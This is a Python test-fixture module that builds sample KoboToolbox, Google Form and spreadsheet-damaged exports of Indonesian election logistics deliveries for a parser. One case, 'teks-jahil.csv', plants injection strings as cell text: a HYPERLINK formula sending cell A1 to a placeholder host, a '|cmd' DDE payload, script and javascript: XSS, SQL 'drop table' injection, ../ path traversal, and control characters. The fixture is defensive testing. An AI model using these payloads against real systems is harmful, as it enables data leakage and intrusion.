"""Exports of forms (KoboToolbox, Google), numbers spoilt by a spreadsheet, and texts that try to be more."""

# ruff: noqa: PLR0917 - one call is one line of cells, read like a table

from pathlib import Path
from typing import Any

from tests.corpus.make.deliveries.kit import (
    HELD,
    OPEN,
    STORED,
    TIMUR,
    UTARA,
    Data,
    Sheet,
    case,
    data,
    feb,
    pps,
    told,
    tps,
)  # fmt: skip
from tests.corpus.make.deliveries.writers import with_editor, with_xlsxwriter

KOBO = ["start", "end", "today", "deviceid", "grp_umum/nama_pelapor", "grp_logistik/no_surat_jalan",
        "grp_logistik/jenis_barang", "grp_logistik/asal", "grp_logistik/tujuan", "grp_waktu/waktu_berangkat",
        "grp_waktu/waktu_tiba", "grp_logistik/jumlah_kirim", "grp_logistik/jumlah_terima",
        "grp_logistik/jumlah_rusak", "grp_logistik/catatan", "meta/instanceID", "_id", "_uuid",
        "_submission_time",
        "_validation_status", "_notes", "_status", "_submitted_by", "__version__", "_tags",
        "_index"]  # fmt: skip


def _kobo(index: int, document: str, item: str, name: str, hours: tuple[str, str], amount: int,
          status: str = STORED) -> Data:  # fmt: skip
    stamp = "2024-02-11T19:0{}:12.345+07:00"
    times = [f"2024-02-11T{hour}:00.000+07:00" for hour in hours]
    cells = [stamp.format(index), stamp.format(index + 1), "2024-02-11", "ee.example:7", "Petugas Panwascam",
             document,
             item, "ppk_pekalongan_utara", f"pps_{name.lower().replace(' ', '_')}", *times, amount, amount, 0,
             "catatan", f"uuid:0000-{index}", 301000 + index, f"0000-{index}", f"2024-02-11T12:1{index}:30",
             None, None,
             "submitted_via_web", None, "vA1b2C3", None, index]  # fmt: skip
    said = told(status, document_no=document, item=item, origin=UTARA, destination=pps(name),
                departed_at=feb(11, hours[0]), arrived_at=feb(11, hours[1]), qty_sent=amount,
                qty_received=amount,
                qty_damaged=0, note="catatan")  # fmt: skip
    return data(cells, said)


@case(
    "kobo-xml.csv",
    "text editor (as KoboToolbox exports, XML names, semicolons)",
    "group prefixes, metadata before and after, start and end that are no delivery, choice names "
    "with underscores, times with +07:00, one report sent twice",
    party="panwascam",
)
def kobo_names(path: Path) -> list[Sheet]:
    """Kobo's CSV with the names of its XML."""
    sheet = Sheet(None, [
        KOBO,
        _kobo(1, "KB-1", "kotak_suara", "Panjang Wetan", ("08:30", "09:15"), 190),
        _kobo(2, "KB-1", "bilik_suara", "Panjang Wetan", ("08:30", "09:15"), 152),
        _kobo(3, "KB-2", "kotak_suara", "Kandang Panjang", ("10:00", "10:40"), 185),
        _kobo(4, "KB-2", "kotak_suara", "Kandang Panjang", ("10:00", "10:40"), 185, "duplicate"),
    ])  # fmt: skip
    with_editor(path, sheet, sep=";", encoding="utf-8-sig", end="\n")
    return [sheet]


LABELS = ["start", "end", "Pihak pelapor", "Data pengiriman/Nomor surat jalan", "Data pengiriman/Nama barang",
          "Data pengiriman/Dikirim dari", "Data pengiriman/Tujuan", "Waktu/Tanggal dan jam berangkat",
          "Waktu/Tanggal dan jam tiba", "Jumlah/Jumlah yang dikirim", "Jumlah/Jumlah yang diterima",
          "Keterlambatan/Sebab terlambat", "Catatan", "_id", "_uuid", "_submission_time",
          "_index"]  # fmt: skip


def _label(index: int, party: tuple[str, str], name: str, hours: tuple[str, str],
           cause: tuple[str | None, str | None],
           amount: int) -> Data:  # fmt: skip
    times = [f"2024-02-12T{hour}:00.000+07:00" for hour in hours]
    cells = ["2024-02-12T18:00:00.000+07:00", "2024-02-12T18:04:00.000+07:00", party[0], f"KL-{index}",
             "Kotak suara",
             "PPK Pekalongan Timur", f"PPS {name}", *times, amount, amount, cause[0], None, 8800 + index,
             f"0000-{index}", "2024-02-12T11:05:00", index]  # fmt: skip
    said = told(document_no=f"KL-{index}", item="kotak_suara", origin=TIMUR, destination=pps(name),
                party=party[1],
                departed_at=feb(12, hours[0]), arrived_at=feb(12, hours[1]), qty_sent=amount,
                qty_received=amount,
                delay_cause=cause[1], note=None)  # fmt: skip
    return data(cells, said)


@case(
    "kobo-label.xlsx",
    "XlsxWriter (as KoboToolbox exports, labels)",
    "labels with group prefixes, a column that says whose word each row is, causes in people's words "
    "(air pasang, hujan deras, jalan macet)",
    party="lain",
)
def kobo_labels(path: Path) -> list[Sheet]:
    """Kobo's workbook with the questions as labels."""
    sheets = [Sheet("Laporan pengiriman logistik", [
        LABELS,
        _label(1, ("Panwascam", "panwascam"), "Klego", ("08:00", "10:30"), ("air pasang", "banjir_rob"), 140),
        _label(2, ("PPS", "pps"), "Poncol", ("09:00", "11:10"), ("hujan deras", "cuaca"), 180),
        _label(3, ("PPK", "ppk"), "Kauman", ("13:00", "14:45"), ("jalan macet", "macet"), 160),
        _label(4, ("Panwascam", "panwascam"), "Gamer", ("15:00", "15:20"), (None, None), 75),
    ])]  # fmt: skip
    with_xlsxwriter(path, sheets)
    return sheets


GOOGLE = ["Timestamp", "Nomor surat jalan?", "Barang apa yang diterima?", "Barang dikirim dari mana?",
          "Barang diterima di TPS mana? (contoh: TPS 07 Kel. Medono)", "Tanggal tiba", "Jam tiba",
          "Berapa jumlah yang diterima?", "Berapa yang rusak?", "Apakah pengawas hadir saat serah terima?",
          "Catatan (bila ada)"]  # fmt: skip


def _google(cells: list[Any], item: str, place: tuple[str, int], arrived: str, counts: tuple[Any, Any],
            present: int | None) -> Data:  # fmt: skip
    return data(cells, told(document_no=cells[1], item=item, origin=pps(place[0]), destination=tps(*place),
                            arrived_at=arrived, departed_at=None, qty_received=counts[0],
                            qty_damaged=counts[1],
                            supervisor_present=present, note=cells[10]))  # fmt: skip


@case(
    "google-form.csv",
    "text editor (as Google Sheets exports form answers)",
    "Timestamp is when the form was sent, no time of the delivery; questions as headers; places as "
    "people answer",
    party="panwascam",
)
def google_form(path: Path) -> list[Sheet]:
    """Answers to a form, as Google keeps them."""
    sheet = Sheet(None, [
        GOOGLE,
        _google(["13/02/2024 19:31:05", "GF-1", "Kotak suara", "PPS Degayu", "TPS 02 Kel. Degayu",
                 "13/02/2024",
                 "14:05:00", "5", "0", "Ya", "segel utuh semua"], "kotak_suara", ("Degayu", 2),
                 feb(13, "14:05"),
                (5, 0), 1),
        _google(["13/02/2024 19:44:50", "GF-1", "Bilik suara", "PPS Degayu", "TPS 02 Kel. Degayu",
                 "13/02/2024",
                 "14:05:00", "4", "1", "Ya", None], "bilik_suara", ("Degayu", 2), feb(13, "14:05"), (4, 1),
                 1),
        _google(["13/02/2024 21:02:11", "GF-2", "Tinta", "PPS Krapyak", "tps 10 krapyak", "13/02/2024",
                 "16:30:00",
                 "2", None, "Tidak", None], "tinta", ("Krapyak", 10), feb(13, "16:30"), (2, None), 0),
    ])  # fmt: skip
    with_editor(path, sheet)
    return [sheet]


@case(
    "nomor-rusak.csv",
    "text editor (saved again from a spreadsheet)",
    "document numbers turned into 2.02402E+14, and numbers that lost their leading zeros beside some "
    "that kept them",
)
def spoilt_numbers(path: Path) -> list[Sheet]:
    """0017 and 18 in one column: the zeros of the second are gone."""
    lines: list[Any] = [["No Surat Jalan", "Barang", "Dari", "Tujuan", "Waktu Tiba", "Diterima"]]
    for document, name, status, number in (
        ("0017", "Medono", STORED, "0017"),
        ("18", "Podosugih", HELD, ...),
        ("2.02402E+14", "Tirto", HELD, ...),
        ("0019", "Bendan Kergon", STORED, "0019"),
        ("202402130000021", "Pringrejo", STORED, "202402130000021"),
    ):
        cells = [document, "Sampul", "PPK Pekalongan Barat", f"PPS {name}", "2024-02-12 10:00", 100]
        lines.append(data(cells, told(status, "" if status == STORED else "document_no", document_no=number,
                                      item="sampul", origin="33.75.01", destination=pps(name),
                                      arrived_at=feb(12, "10:00"), qty_received=100)))  # fmt: skip
    sheet = Sheet(None, lines)
    with_editor(path, sheet)
    return [sheet]


@case(
    "teks-jahil.csv",
    "text editor",
    "formulas, markup, a script, control and right-to-left characters, ../ names as plain text in "
    "notes, numbers and vehicles",
    party="pps",
)
def mischief(path: Path) -> list[Sheet]:
    """Cells that would do something elsewhere; here they are words."""
    link = '=HYPERLINK("http://contoh.invalid/?"&A1;"klik")'
    rows = (
        ("TJ-1", "Truk G 1 AA", link, STORED, link),
        ("TJ-2", "+62|cmd", "<script>alert('x')</script>", STORED, "<script>alert('x')</script>"),
        (
            "TJ-3",
            "@SUM(1+1)",
            "**tebal** [klik](javascript:alert(1))",
            STORED,
            "**tebal** [klik](javascript:alert(1))",
        ),
        ("TJ-4", "../../data/local/kawal.db", "dibaca \u202eterbalik\u202c", OPEN, ...),
        ("TJ-5", "Becak 7", "bunyi \x07 dan \x1b[31mmerah", OPEN, ...),
        ("TJ-6", "Truk 'G'; drop table logs;--", "-1+1 dus penyok", STORED, "-1+1 dus penyok"),
    )
    lines: list[Any] = [
        ["No SJ", "Barang", "Dari", "Tujuan", "Waktu Tiba", "Diterima", "Kendaraan", "Keterangan"]
    ]
    for number, (document, truck, note, status, said) in enumerate(rows, start=1):
        cells = [
            document,
            "Kotak suara",
            "PPS Tirto",
            f"TPS {number} Tirto",
            f"13/02/2024 08:1{number}",
            5,
            truck,
            note,
        ]
        lines.append(data(cells, told(status, document_no=document, item="kotak_suara", origin=pps("Tirto"),
                                      destination=tps("Tirto", number), arrived_at=feb(13, f"08:1{number}"),
                                      qty_received=5, vehicle=truck, note=said)))  # fmt: skip
    sheet = Sheet(None, lines)
    with_editor(path, sheet)
    return [sheet]
